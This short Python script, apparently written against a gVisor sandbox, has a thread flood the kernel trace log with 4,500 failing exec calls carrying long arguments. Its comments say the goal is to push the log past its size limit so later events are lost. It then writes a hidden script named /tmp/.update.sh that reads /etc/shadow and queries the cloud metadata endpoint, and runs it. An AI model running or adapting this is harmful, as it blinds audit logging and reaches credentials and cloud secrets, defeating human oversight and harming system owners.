# Fill the kernel's trace with failing execs of long argv from a thread
# (4,500 lines of 10 KB on gVisor's Sentry log: past its 32 MiB bound
# even cut to their start and end), then run the payload: a credential
# read and the metadata service through a shell.
import os, subprocess, threading
args = ["x"] + ["A" * 1000] * 10
def flood():
    for i in range(4500):
        try:
            os.execv("/nonexistent/x%d" % i, args)
        except OSError:
            pass
t = threading.Thread(target=flood)
t.start()
t.join()
with open("/tmp/.update.sh", "w") as f:
    f.write("cat /etc/shadow > /dev/null 2>&1\nenv curl -s -m 1 http://169.254.169.254/latest/meta-data/ || true\n")
subprocess.run(["/bin/sh", "/tmp/.update.sh"])
